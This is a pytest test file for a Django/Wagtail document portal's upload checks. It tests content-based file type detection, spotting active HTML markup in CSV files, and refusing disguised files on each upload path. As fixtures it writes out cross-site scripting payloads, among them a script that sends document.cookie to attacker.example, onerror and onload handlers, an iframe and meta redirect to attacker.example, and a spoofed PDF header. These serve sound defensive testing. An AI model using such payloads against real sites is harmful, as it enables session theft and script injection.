"""File types judged by content (documents.filetypes, by libmagic), markup refused whatever a
file's name (lxml's HTML5 tokenizer), and the one upload check (documents.validators) on every
real upload path: the Wagtail admin's add, edit, multiple and chooser uploads, by a superuser
and by an editor, and a work group's files page. A refused file leaves nothing behind: no
document, no file in storage."""

import io
import time
import zipfile
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape
from wagtail.documents import get_document_model
from wagtail.models import Collection, UploadedFile

from documents import filetypes
from documents.filetypes import content_matches_extension, sniff_file, sniff_format
from portal.staff_permissions import open_collection_to_staff
from tests.conftest import force_login_with_mfa
from tests.factories import UserFactory
from tests.toolkits import samples
from tests.workgroups.conftest import make_group
from tests.workgroups.helpers import url
from workgroups import membership
from workgroups.models import Membership, SharedFile, WorkGroup, WorkGroupIndexPage

Document = get_document_model()

# Files with markup, made here as an attacker would make them.


def html_with_pdf_header_in_a_comment():
    """An HTML page whose first kilobyte holds "%PDF-", inside a comment."""
    return (
        b"<!DOCTYPE html>\n<html><head><!-- %PDF-1.7 -->\n<title>Sepsis checklist</title>"
        b"</head><body><h1>Sepsis checklist</h1>"
        b"<script>document.location = 'https://attacker.example/?' + document.cookie</script>"
        b"</body></html>\n"
    )


def svg_image():
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.domain)</script>"
        b'<rect width="10" height="10" fill="red"/></svg>\n'
    )


def html_page_of_data():
    return (
        b"<!DOCTYPE html>\n<html><body><table>"
        b"<tr><th>county</th><th>cases</th></tr><tr><td>Worcester</td><td>12</td></tr>"
        b"</table><script>fetch('/admin/')</script></body></html>\n"
    )


def csv_with_markup(cell='"<img src=x onerror=alert(document.cookie)>"'):
    """Comma-separated values, as libmagic sees them, with markup in one cell."""
    return (f"county,cases,note\nWorcester,12,reviewed\nSuffolk,8,{cell}\nEssex,5,ok\n").encode()


# An ordinary CSV of clinical data: "<" and ">" as comparisons, none of them starting a tag
# (to a browser "Hb <LLN on admission; MAP >65" is an unknown <lln> element, which is inert).
CLINICAL_CSV = (
    "patient,lactate_mmol_l,map_mm_hg,note\n"
    "1,1.8,72,lactate < 2\n"
    '2,4.6,58,"lactate > 4 & MAP<65"\n'
    "3,<2,>65,Hb <LLN on admission; MAP >65\n"
    "4,2.1,70,<b>reviewed</b> by the sepsis team\n"
    "5,1.2,68,transfer from São Paulo; lactate ≤ 2\n"
).encode()


def reordered(data, first):
    """An Office file with the same parts in another order: `first` parts first, then the
    rest alphabetically (as some other producers write them)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    names = sorted(source.namelist(), key=lambda name: (name not in first, name))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, source.read(name))
    return buffer.getvalue()


# Formats, by content


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (samples.pdf(), "pdf"),
        (samples.corrupt_pdf(), "pdf"),
        (samples.docx(), "docx"),
        (samples.pptx(), "pptx"),
        (samples.xlsx(), "xlsx"),
        (samples.csv(), "csv"),
        (CLINICAL_CSV, "csv"),
        (samples.png(), "png"),
        (samples.jpeg(), "jpg"),
        (samples.zip_archive(), "zip"),
        (samples.windows_program(), None),
        (b"", None),
        (html_with_pdf_header_in_a_comment(), "html"),
        (html_page_of_data(), "html"),
        (b"<p>A page without a doctype.</p>\n<p>Second paragraph, with commas.</p>\n", "html"),
        (svg_image(), "svg"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "svg"),
        (b'<?xml version="1.0"?>\n<cases><case county="Worcester"/></cases>\n', "xml"),
    ],
    ids=[
        "pdf",
        "damaged-pdf",
        "docx",
        "pptx",
        "xlsx",
        "csv-utf8",
        "csv-with-comparisons",
        "png",
        "jpeg",
        "zip",
        "program",
        "empty",
        "html-with-pdf-header-in-comment",
        "html-table",
        "html-fragment",
        "svg",
        "svg-without-declaration",
        "xml",
    ],
)
def test_sniff_by_content(data, expected):
    assert sniff_format(data[: filetypes.SNIFF_BYTES]) == expected
    assert sniff_file(io.BytesIO(data)) == expected


@pytest.mark.parametrize(
    "data",
    [
        samples.csv(),
        samples.csv("a;b\nCafé;1\nSão Paulo;2\n", encoding="cp1252"),
        CLINICAL_CSV,
        "a,b\n1,2\n".encode("utf-16"),
        b"Plain notes, one line.",
        b"[Header]\nx=1\n[Data]\na,b\n1,2\n",  # libmagic takes it for an .ini file: text still
    ],
)
def test_text_of_every_kind_is_text(data):
    # libmagic tells CSV from other text by guessing; a CSV file may be any text.
    assert sniff_file(io.BytesIO(data)) in filetypes.TEXT_KINDS
    assert content_matches_extension("csv", sniff_file(io.BytesIO(data)))


def test_a_pdf_header_counts_only_at_the_start():
    assert sniff_format(b"junk before the header\n" + samples.pdf()) != "pdf"
    assert sniff_format(b"%PDF-1.7\n" + b"\x8f" * 100) == "pdf"


def test_office_parts_in_another_order_are_still_an_office_package_never_a_zip():
    # LibreOffice and others write the parts in other orders than Word; libmagic knows the
    # common ones, and for the rest says that it is an Office package of unknown kind.
    odd = reordered(samples.docx(), first=("_rels/.rels", "customXml/item1.xml"))
    assert sniff_format(odd) == "ooxml"
    assert content_matches_extension("docx", "ooxml")
    assert not content_matches_extension("pdf", "ooxml")
    assert not content_matches_extension("docx", "zip")


def test_sniff_file_leaves_the_file_at_its_start():
    handle = io.BytesIO(samples.xlsx())
    sniff_file(handle)
    assert handle.tell() == 0


@pytest.mark.parametrize(
    ("extension", "found", "matches"),
    [
        ("pdf", "pdf", True),
        ("PDF", "pdf", True),
        ("jpeg", "jpg", True),
        ("jpg", "jpg", True),
        ("csv", "csv", True),
        ("csv", "txt", True),
        ("pdf", "zip", False),
        ("pdf", "html", False),
        ("csv", "html", False),
        ("png", "svg", False),
        ("docx", "zip", False),
        ("docx", "xlsx", False),
        ("docx", None, False),
        ("csv", "pdf", False),
        ("png", "jpg", False),
        ("csv", None, False),
    ],
)
def test_content_matches_extension(extension, found, matches):
    assert content_matches_extension(extension, found) is matches


# Markup in text


@pytest.mark.parametrize(
    "data",
    [
        CLINICAL_CSV,
        samples.csv(),
        b"a,b\n1,2\n",
        b"",
        b"note\n<!-- a comment is not active -->\n",
        b"reading\n<2\nx<y\n",
    ],
)
def test_text_without_active_markup(data):
    assert filetypes.find_markup(io.BytesIO(data)) is None


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("<script>alert(1)</script>", {"element": "script"}),
        ("<SCRIPT SRC=//attacker.example/x.js></SCRIPT>", {"element": "script"}),
        ('"<img src=x onerror=alert(document.cookie)>"', {"attribute": "onerror"}),
        ("<svg/onload=alert(1)>", {"element": "svg"}),
        ("<iframe src=//attacker.example>", {"element": "iframe"}),
        ("<details open ontoggle=alert(1)>", {"attribute": "ontoggle"}),
        ("<a href=' java\tscript:alert(1)'>chart</a>", {"scheme": "javascript"}),
        ("<meta http-equiv=refresh content='0;url=//attacker.example'>", {"element": "meta"}),
        # A comment closed the way browsers close it ("--!>") hides nothing.
        ("<!-- note --!><script>alert(1)</script> -->", {"element": "script"}),
    ],
)
def test_active_markup_anywhere_in_text_is_found(cell, expected):
    found = filetypes.find_markup(io.BytesIO(csv_with_markup(cell)))
    assert found == filetypes.Markup(**expected)


def test_markup_far_from_the_start_is_found():
    rows = "".join(f"{n},{n % 7},lactate < 2\n" for n in range(200_000))
    data = f"patient,score,note\n{rows}99,1,<script>alert(1)</script>\n".encode()
    assert len(data) > 2 * filetypes.SNIFF_BYTES
    assert sniff_file(io.BytesIO(data)) in filetypes.TEXT_KINDS
    assert filetypes.find_markup(io.BytesIO(data)) == filetypes.Markup(element="script")


def test_markup_is_found_in_the_texts_own_encoding():
    data = csv_with_markup().decode().encode("utf-16")
    assert sniff_file(io.BytesIO(data)) in filetypes.TEXT_KINDS
    assert filetypes.find_markup(io.BytesIO(data)) == filetypes.Markup(attribute="onerror")


def test_hostile_markup_is_read_in_linear_time():
    # Patterns that cost Python's html.parser minutes for a few hundred kilobytes.
    for pattern in (b'<a b="', b"<a\n", b"<!--", b"<a"):
        data = b"a,b\n" + pattern * (2_000_000 // len(pattern))
        started = time.monotonic()
        filetypes.find_markup(io.BytesIO(data))
        assert time.monotonic() - started < 10, pattern


# Through the upload paths


def stored_files():
    root = Path(default_storage.location)
    return {path for path in root.rglob("*") if path.is_file()}


@pytest.fixture
def nothing_stored():
    """Asserts, when called, that no document, pending upload or file was added since the
    test began."""
    documents = set(Document.objects.values_list("pk", flat=True))
    uploads = UploadedFile.objects.count()
    files = stored_files()

    def check():
        assert set(Document.objects.values_list("pk", flat=True)) == documents
        assert UploadedFile.objects.count() == uploads
        assert stored_files() == files

    return check


@pytest.fixture
def public_collection(db):
    collection = Collection.get_first_root_node().add_child(name="Upload checks")
    open_collection_to_staff(collection)  # where Editors may add documents
    return collection


@pytest.fixture(params=["superuser", "editor"])
def uploader_client(request, client, public_collection):
    """A client in the Wagtail admin as a superuser, then as an editor."""
    user = request.getfixturevalue(
        "superuser" if request.param == "superuser" else "editor_with_mfa"
    )
    force_login_with_mfa(client, user)
    return client


# Refused: (file name, content, the message's words)
REFUSED = [
    (
        "checklist.pdf",
        html_with_pdf_header_in_a_comment(),
        "“checklist.pdf” is named as a PDF but it contains an HTML page.",
    ),
    (
        "sepsis-chart.png",
        svg_image(),
        "“sepsis-chart.png” is named as a PNG image but it contains an SVG image.",
    ),
    (
        "counties.csv",
        html_page_of_data(),
        "“counties.csv” is named as a CSV file but it contains an HTML page.",
    ),
    (
        "counties.csv",
        csv_with_markup(),
        "“counties.csv” is named as a CSV file but it contains HTML markup "
        "(an event handler, “onerror”). Files with web page code or scripts cannot be "
        "uploaded: remove it, then upload the file again.",
    ),
    (
        "counties.csv",
        csv_with_markup("<script>alert(1)</script>"),
        "“counties.csv” is named as a CSV file but it contains HTML markup (a “<script>” element).",
    ),
    (
        "guide.docx",
        samples.zip_archive(),
        "“guide.docx” is named as a Word document but it contains a ZIP archive.",
    ),
    (
        "indicators.xlsx",
        samples.docx(),
        "“indicators.xlsx” is named as an Excel workbook but it contains a Word document.",
    ),
]
REFUSED_IDS = [
    "html-as-pdf",
    "svg-as-png",
    "html-as-csv",
    "csv-with-event-handler",
    "csv-with-script",
    "zip-as-docx",
    "docx-as-xlsx",
]
# Accepted: (file name, content)
ACCEPTED = [
    ("checklist.pdf", samples.pdf()),
    ("guide.docx", samples.docx()),
    ("indicators.xlsx", samples.xlsx()),
    ("slides.pptx", samples.pptx()),
    ("counties.csv", samples.csv()),
    ("lactate.csv", CLINICAL_CSV),
    ("poster.png", samples.png()),
    ("photo.jpg", samples.jpeg()),
    ("photo.jpeg", samples.jpeg()),
]


def admin_upload(client, collection, name, data):
    return client.post(
        "/admin/documents/add/",
        {
            "title": "Upload check",
            "file": SimpleUploadedFile(name, data),
            "collection": collection.pk,
            "language": "en-us",
            "tags": "",
        },
    )


@pytest.mark.parametrize(("name", "data", "message"), REFUSED, ids=REFUSED_IDS)
def test_admin_upload_refuses_with_the_type_the_content_looked_like(
    uploader_client, public_collection, nothing_stored, name, data, message
):
    response = admin_upload(uploader_client, public_collection, name, data)
    assert response.status_code == 200
    errors = response.context["form"].errors["file"]
    assert len(errors) == 1, errors
    assert message in errors[0]
    assert escape(message) in response.content.decode()  # shown to the editor
    nothing_stored()


@pytest.mark.parametrize(("name", "data"), ACCEPTED, ids=[name for name, _ in ACCEPTED])
def test_admin_upload_accepts_genuine_files(uploader_client, public_collection, name, data):
    response = admin_upload(uploader_client, public_collection, name, data)
    assert response.status_code == 302, response.context["form"].errors
    document = Document.objects.get(title="Upload check")
    assert document.collection == public_collection
    with document.file.open("rb") as stored:
        assert stored.read() == data


def test_admin_edit_refuses_a_replacement_file(client, superuser, public_collection):
    force_login_with_mfa(client, superuser)
    assert admin_upload(client, public_collection, "c.pdf", samples.pdf()).status_code == 302
    document = Document.objects.get(title="Upload check")
    original = document.file.name
    files = stored_files()
    response = client.post(
        f"/admin/documents/edit/{document.pk}/",
        {
            "title": document.title,
            "file": SimpleUploadedFile("c.pdf", html_with_pdf_header_in_a_comment()),
            "collection": public_collection.pk,
            "language": "en-us",
            "tags": "",
        },
    )
    assert response.status_code == 200
    assert (
        "“c.pdf” is named as a PDF but it contains an HTML page."
        in (response.context["form"].errors["file"][0])
    )
    document.refresh_from_db()
    assert document.file.name == original
    assert stored_files() == files


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [REFUSED[0], REFUSED[1], REFUSED[4]],
    ids=[REFUSED_IDS[0], REFUSED_IDS[1], REFUSED_IDS[4]],
)
def test_multiple_uploader_refuses(
    uploader_client, public_collection, nothing_stored, name, data, message
):
    response = uploader_client.post(
        "/admin/documents/multiple/add/",
        {"files[]": SimpleUploadedFile(name, data), "collection": public_collection.pk},
        headers={"x-requested-with": "XMLHttpRequest"},
    )
    body = response.json()
    assert body["success"] is False
    assert message in body["error_message"]
    nothing_stored()


def test_chooser_upload_refuses(uploader_client, public_collection, nothing_stored):
    name, data, message = REFUSED[2]
    response = uploader_client.post(
        "/admin/documents/chooser/create/",
        {
            "document-chooser-upload-title": "Upload check",
            "document-chooser-upload-file": SimpleUploadedFile(name, data),
            "document-chooser-upload-collection": public_collection.pk,
            "document-chooser-upload-language": "en-us",
            "document-chooser-upload-tags": "",
        },
    )
    body = response.json()
    assert body["step"] == "reshow_creation_form"
    assert escape(message) in body["htmlFragment"]
    nothing_stored()


# A work group's files page


@pytest.fixture
def member_client(client, home_page):
    WorkGroup.objects.all().delete()  # the demo's groups would take the test group's names
    index = WorkGroupIndexPage.objects.first()
    if index is None:
        index = WorkGroupIndexPage(title="Work groups", slug="work-groups")
        home_page.add_child(instance=index)
        index.save_revision().publish()
    work_group = make_group(index, "Upload Checks Test Group", "upload-checks-test")
    member = UserFactory()
    membership.add_member(work_group, member, Membership.Role.MEMBER)
    client.force_login(member)
    client.work_group = work_group
    return client


def share(client, name, data):
    return client.post(
        url(client.work_group, "files"),
        {"title": "Sepsis screening data", "file": SimpleUploadedFile(name, data), "note": ""},
    )


@pytest.mark.parametrize(("name", "data", "message"), REFUSED, ids=REFUSED_IDS)
def test_work_group_files_page_refuses(member_client, nothing_stored, name, data, message):
    response = share(member_client, name, data)
    assert response.status_code == 200
    assert escape(message) in response.content.decode()
    assert not SharedFile.objects.exists()
    nothing_stored()


def test_work_group_new_version_is_refused_too(member_client, nothing_stored):
    assert share(member_client, "lactate.csv", CLINICAL_CSV).status_code == 302
    shared_file = SharedFile.objects.get()
    files = stored_files()
    documents = Document.objects.count()
    name, data, message = REFUSED[3]
    response = member_client.post(
        url(member_client.work_group, "file", shared_file.pk),
        {"file": SimpleUploadedFile(name, data), "note": "v2"},
    )
    assert response.status_code == 200
    assert escape(message) in response.content.decode()
    assert shared_file.versions.count() == 1
    assert Document.objects.count() == documents
    assert stored_files() == files


@pytest.mark.parametrize(("name", "data"), ACCEPTED, ids=[name for name, _ in ACCEPTED])
def test_work_group_files_page_accepts_genuine_files(member_client, name, data):
    response = share(member_client, name, data)
    assert response.status_code == 302
    document = SharedFile.objects.get().versions.get().document
    with document.file.open("rb") as stored:
        assert stored.read() == data
